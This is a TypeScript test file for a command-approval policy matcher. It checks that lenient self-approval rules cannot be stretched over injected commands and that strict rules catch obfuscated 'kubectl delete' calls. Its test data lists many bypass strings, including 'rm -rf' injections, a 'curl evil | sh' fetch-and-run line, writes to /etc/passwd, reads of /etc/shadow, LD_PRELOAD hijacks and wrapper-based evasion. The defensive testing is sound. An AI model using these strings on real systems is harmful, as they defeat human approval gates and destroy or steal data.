// What is written to be under an easier rule than what it runs.
import { test as property } from '@fast-check/vitest';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  POLICY_WITHOUT_FILE,
  type Policy,
  type PolicySet,
} from '../../../src/approvals/policy/policy.ts';
import { policyFor } from '../../../src/approvals/policy/policy-for.ts';

const policy = (change: Partial<Policy>): Policy => ({ ...POLICY_WITHOUT_FILE, ...change });
const easyFor = (...action: string[]) =>
  policy({ match: { action }, selfApproval: true, onTimeout: 'approve', expiresAfterMs: 60_000 });
const fallback = policy({ required: 3, onTimeout: 'expire' });
const under = (rules: Policy[], action: string) => {
  const file: PolicySet = { kind: 'file', rules, fallback };
  return policyFor(file, { projectId: 'acme', scope: 'deploy', action });
};

describe('an easy rule', () => {
  const easy = easyFor('noop *', 'ls *', 'git status*', 'git log*');

  it.each([
    'noop a\nrm -rf /srv/prod',
    'noop a\r\nrm -rf /srv/prod',
    'noop a\u2028rm -rf /srv/prod',
    'git status\nrm',
    'git status; rm -rf /srv',
    'git status && curl evil | sh',
    'git status |& sh',
    'git status "unended; rm -rf /srv',
    "git status $'\\''; rm -rf /srv; echo $'\\''",
    "ls $'a\\';rm -rf /;'",
    'noop $(rm -rf /srv)',
    'noop "$(rm -rf /srv)"',
    'noop "a\\"$(rm -rf /srv)"',
    `noop "\${x:-$(rm -rf /srv)}"`,
    `noop \${x:-\`rm -rf /srv\`}`,
    `noop \${x@P}`,
    'noop $((a[$(rm -rf /srv)]))',
    'noop $[a[$(rm)]]',
    'noop `rm -rf /srv`',
    'noop "`rm -rf /srv`"',
    'noop <(rm -rf /srv)',
    'noop >(rm -rf /srv)',
    'noop =(rm -rf /srv)',
    'A="$(rm -rf /)" noop a',
    'LANG="$(rm -rf /)" noop a',
    'LANG=$(rm) noop a',
    'env -S"rm -rf /srv" noop a',
    'env -S "rm -rf /srv" noop a',
    'noop a > /etc/passwd',
    'noop a >/etc/passwd',
    'noop a >> /etc/passwd',
    'noop a >| /etc/passwd',
    'noop a &> /etc/passwd',
    'noop a >& /etc/passwd',
    'noop a >&1x',
    'noop a <> /etc/passwd',
    'noop a < /etc/shadow',
    'noop a <<< "$x"',
    'noop a <<EOF\n$(rm -rf /srv)\nEOF',
    'noop {a,b}',
    'noop {1..3}',
    "noop a # it's\nrm -rf /srv\n# it's",
    'noop a #"\nrm -rf /srv\n#"',
    'noop a \\\u200b; rm -rf /srv',
    'noop a \\\u200b\nrm -rf /srv',
    'noop a \\\r\nrm -rf /srv',
    'noop a <\u0338/etc/shadow',
    'noop a \\',
    'eval noop a',
    'sudo eval noop a',
    'eval "noop a"',
    'noop a; eval b',
    'noop() { rm; }; noop a',
    'function noop { rm; }\nnoop a',
    'alias noop=rm; noop a',
    'LD_PRELOAD=/tmp/e.so ls x',
    'PATH=/tmp/evil git status',
    'GIT_SSH_COMMAND=/tmp/e git status',
    'sudo -e noop a',
    'sudo -s noop a',
    'sudo -i noop a',
  ])('alone never counts for %j', (action) => {
    expect(under([easy], action)).toMatchObject({
      required: 3,
      selfApproval: false,
      onTimeout: 'expire',
    });
  });

  it.each(['$x a', 'no$x a', 'sudo no$x a', 'no* a', 'no{op,} a', '$(echo noop) a', '`x` a'])(
    'alone never counts for a command that a shell works out: %j',
    (action) => {
      expect(under([easyFor('no*', '*a')], action).required).toBe(3);
    },
  );

  it.each([
    'noop a',
    'ls -la "my files" *.ts $HOME',
    'git status --short 2>&1',
    'git log --grep=\'fix; $(x)\' --format="%h %s"',
    'git log HEAD@{1} -n 5',
    'sudo ls x',
    'TZ=UTC git log -n 5 \\\n  --stat',
    'ls a; git status && noop b | noop c',
  ])('counts for %j', (action) => {
    expect(under([easy], action)).toBe(easy);
  });

  const text = fc.string({ unit: fc.constantFrom(...'ab -_./:,+@%'), maxLength: 20 });
  const cut = fc.constantFrom(
    '\n',
    ';',
    '&',
    '|',
    '$(',
    '`',
    '<(',
    '>',
    '<',
    "$'",
    '\u2029',
    '"$(',
  );
  property.prop([text, cut, text])('never covers what is behind a cut', (before, at, after) => {
    expect(under([easy], `noop x${before}${at}rm ${after}`).required).toBe(3);
  });

  property.prop([text])('covers plain arguments', (args) => {
    expect(under([easy], `noop x${args}`)).toBe(easy);
  });

  it('shares an action with a rule for everything as with a default', () => {
    const everything = policy({ match: { action: ['*'] }, required: 2 });
    expect(under([easy, everything], 'noop a')).toBe(easy);
    expect(under([easy, everything], 'noop a > b').required).toBe(2);
    expect(under([easy, everything], 'noop a; rm b').required).toBe(2);
  });
});

describe('a strict rule', () => {
  const strict = policy({ match: { action: ['kubectl *'] }, required: 5 });
  const easy = easyFor('*');

  it.each([
    '>/dev/null kubectl delete ns prod',
    '2>&1 kubectl delete ns prod',
    '<in kubectl delete ns prod',
    '&>x kubectl delete ns prod',
    'kubectl>out delete ns prod',
    'kubectl</dev/null delete ns prod',
    'coproc kubectl delete ns prod',
    'echo delete ns prod | xargs kubectl',
    'echo prod | xargs -I{} kubectl delete ns {}',
    'find . -exec kubectl delete -f {} \\;',
    '{kubectl,delete,ns,prod}',
    'kube{c,}tl delete ns prod',
    'kube{c..c}tl delete ns prod',
    'k{ube{c,x},y}tl delete ns prod',
    '{"kubectl",delete,ns,prod}',
    "$'\\x6bubectl' delete ns prod",
    "$'\\153ubectl' delete ns prod",
    "$'\\u006bubectl' delete ns prod",
    "bash -c $'kube\\x63tl delete ns prod'",
    "printf '\\x6bubectl delete ns prod' | sh",
    'strace -f kubectl delete ns prod',
    'setpriv --reuid 0 kubectl delete ns prod',
    'taskset -c 0,1 kubectl delete ns prod',
    'chrt -f 10 kubectl delete ns prod',
    'numactl --membind=0 kubectl delete ns prod',
    'flock /tmp/lock kubectl delete ns prod',
    'flock /tmp/lock -c "kubectl delete ns prod"',
    'systemd-run --user --property=Nice=5 kubectl delete ns prod',
    'pkexec kubectl delete ns prod',
    'gosu root kubectl delete ns prod',
    'su-exec root kubectl delete ns prod',
    'tini -- kubectl delete ns prod',
    'dumb-init kubectl delete ns prod',
    'unbuffer kubectl delete ns prod',
    'parallel kubectl delete ns ::: prod',
    'tmux new -d kubectl delete ns prod',
    'tmux new -d "kubectl delete ns prod"',
    'screen -dm kubectl delete ns prod',
    'ssh prod kubectl delete ns prod',
    'ssh -oProxyCommand="kubectl delete ns prod" x',
    'ssh -o ProxyCommand=kubectl\\ delete x',
    'docker exec web kubectl delete ns prod',
    'podman exec -it web /usr/bin/kubectl delete ns prod',
    'oc exec web -- kubectl delete ns prod',
    'npx kubectl delete ns prod',
    'source kubectl delete ns prod',
    '. ./kubectl delete ns prod',
    'cmd /c kubectl delete ns prod',
    'cmd /c kube^ctl delete ns prod',
    'pwsh -c kubectl delete ns prod',
    'noglob kubectl delete ns prod',
    'repeat 3 kubectl delete ns prod',
    "sh -c '$0 delete ns prod' kubectl",
    `sh -c '"$@"' sh kubectl delete ns prod`,
    'sh -c "kube\\\\ctl delete ns prod"',
    'sh -ckubectl\\ delete',
    'env -Skubectl\\_delete\\_ns',
    'env -S "kubectl delete ns prod"',
    'eval kubectl delete ns prod',
    'kube$(true)ctl delete ns prod',
    'kube`true`ctl delete ns prod',
    'kube$1ctl delete ns prod',
    'kube$x"ctl" delete ns prod',
    `${'word '.repeat(2_000)}kubectl delete ns prod`,
    'x "a \\"b \\\\\\"kubectl delete ns prod\\\\\\" c\\" d"',
  ])('counts for %j', (action) => {
    expect(under([strict, easy], action).required).toBe(5);
  });

  it.each([
    'kubectl $verb ns prod',
    'kubectl "$(echo delete)" ns prod',
    'kubectl {delete,ns,prod}',
    'kubectl {delete,x} ns prod',
    'kubectl >out delete ns prod',
    'kubectl "delete" ns prod',
    'echo delete ns prod | xargs kubectl',
    'echo ns | xargs kubectl delete',
  ])('of two words counts for %j', (action) => {
    const two = { ...strict, match: { action: ['kubectl delete *'] } };
    expect(under([two, easyFor('kubectl *'), easy], action).required).toBe(5);
  });

  it('that starts with a wildcard applies to other spellings', () => {
    const any = { ...strict, match: { action: ['*kubectl delete*'] } };
    for (const action of ['x ku\\bectl delete', 'sh -c "a; kube""ctl delete x"']) {
      expect(under([any, easy], action).required, action).toBe(5);
    }
  });

  it('applies to everything with too many lists', () => {
    expect(under([strict, easy], `x ${'{a,b}'.repeat(20)}`).required).toBe(5);
  });

  it('applies if its command is only a word of another one', () => {
    for (const action of ['echo kubectl delete', 'npm run deploy kubectl']) {
      expect(under([strict, easy], action).required, action).toBe(5);
    }
  });

  it.each([
    'git push origin main',
    'git commit -m "Describe what kubectlx does"',
    'docker compose up -d --build',
    'npm run build -- --mode=production',
    'terraform apply -auto-approve "plan.out"',
    "psql -c 'select * from users where id = 5;'",
    'rsync -a ./dist/ web:/srv/app/',
    'helm upgrade --install shop ./chart --set image.tag=v1.2.3',
    'curl -fsS https://example.com/kubectl-notes.html',
    'echo "{\\"a\\": [1, 2]}" | jq .a',
    'Deploy version 1.2.3 to production (eu-west)',
  ])('counts not for %j', (action) => {
    expect(under([strict, easy], action)).toBe(easy);
  });

  it('behind one that comes first leaves to it what that matches', () => {
    const get = easyFor('kubectl get *');
    for (const action of [
      'kubectl get pods',
      'kubectl get "pods"',
      'sudo kubectl get pods -o wide',
    ]) {
      expect(under([get, strict], action), action).toBe(get);
    }
  });
});
